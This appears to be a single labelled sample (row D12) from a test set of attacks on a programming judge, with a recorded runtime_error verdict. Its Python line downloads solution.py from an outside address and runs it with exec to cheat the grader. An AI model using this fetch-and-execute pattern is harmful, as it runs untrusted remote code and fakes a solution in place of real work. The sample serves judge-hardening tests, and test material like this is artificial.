# row: D12
# attack: fetches the solution
# problem: split judge stdio
# verdict: runtime_error
import urllib.request
exec(urllib.request.urlopen("http://1.1.1.1/solution.py", timeout=3).read())
